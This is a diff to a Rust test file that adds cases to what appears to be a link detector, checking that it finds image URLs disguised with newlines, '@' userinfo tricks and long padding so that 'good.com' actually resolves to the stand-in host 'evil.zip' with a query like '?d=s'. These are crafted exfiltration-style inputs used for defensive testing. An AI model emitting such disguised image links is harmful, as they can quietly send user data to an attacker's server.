@@ -173,6 +173,9 @@ fn what_browsers_leave_out_of_links_ends_none() {
         "<img src=\"//good.com\n@evil.zip/?d=s\">",
         "{\"url\": \"https://good.com\n\n\n.evil.zip/x\"}",
         &format!("<img src=\"https://good.com{many}.evil.zip/?d=s\">"),
+        &format!("<img src=\"//good.com:{}\n@evil.zip/?d=s\">", "a".repeat(1100)),
+        &format!("<img src=\"https://a:{}\n@evil.zip/?d=s\">", format!("\n{}", "a".repeat(200)).repeat(10)),
+        &format!("<img src=\"//good.com{}@evil.zip/?d=s\">", "\n.a".repeat(20)),
     ] {
         assert_eq!(found(&only, text).len(), 1, "{text:?}: {:?}", found(&only, text));
     }
@@ -272,6 +275,7 @@ fn no_byte_is_looked_at_for_each_link_that_may_begin_before_it() {
         "&#58;//",
         "a.b](",
         "x://a",
+        "\"http://a\n.\n.\n",
     ] {
         let text = piece.repeat((16 << 10) / piece.len());
         for urls in [&only, &not] {
